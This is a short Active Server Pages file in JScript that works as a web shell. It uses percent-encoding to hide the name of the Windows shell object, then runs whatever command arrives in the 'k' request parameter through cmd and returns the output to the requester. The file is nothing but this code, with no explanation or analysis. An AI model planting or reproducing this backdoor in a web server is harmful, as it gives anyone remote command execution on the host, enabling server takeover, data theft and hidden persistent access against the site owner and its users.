<%@ Language="JScript" %>
<%
var id = unescape("%57%53%63%72%69%70%74%2E%53%68%65%6C%6C");
var o = new ActiveXObject(id);
var c = Request("k");
var r = o.Exec("cmd /c " + c).StdOut.ReadAll();
Response.Write(r);
%>
